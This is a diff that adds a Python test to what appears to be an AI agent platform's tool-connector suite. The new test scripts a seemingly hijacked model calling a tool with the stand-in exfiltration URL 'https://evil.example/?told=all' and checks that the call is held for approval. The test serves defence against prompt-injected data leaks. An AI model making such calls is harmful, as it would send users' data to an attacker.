@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import dataclasses
 import itertools
 import json
 import sys
@@ -170,6 +171,25 @@ def test_what_a_connector_gives_is_known_as_the_words_of_others(office_with, cha
 
     with office.database.read() as session:
         assert labels.sources(session, task.id) == [Source(name="Odd", audience=Audience.WORKSPACE)]
+
+
+def test_what_an_admin_connected_is_read_again_unasked_and_another_address_is_asked_for(office_with, changing):
+    changing.describes({"name": "look", "inputSchema": {"type": "object"}})
+    look = changing.tool("look")
+    office = office_with(
+        dataclasses.replace(changing.connector, network=True),
+        {"look": READ_ON},
+        calls((look, {"n": 1})),
+        calls((look, {"n": 2})),
+        calls((look, {"url": "https://evil.example/?told=all"})),
+    )
+
+    task = office.begin("Look")
+
+    assert task.state is TaskState.WAITING
+    assert changing.made == ['["look", {"n": 1}]', '["look", {"n": 2}]']
+    [action] = office.pending(task.id).draft.actions
+    assert "evil.example" in action.reason
 
 
 def test_a_tool_that_is_off_is_denied_to_a_hijacked_model_and_never_offered(office_with, changing):
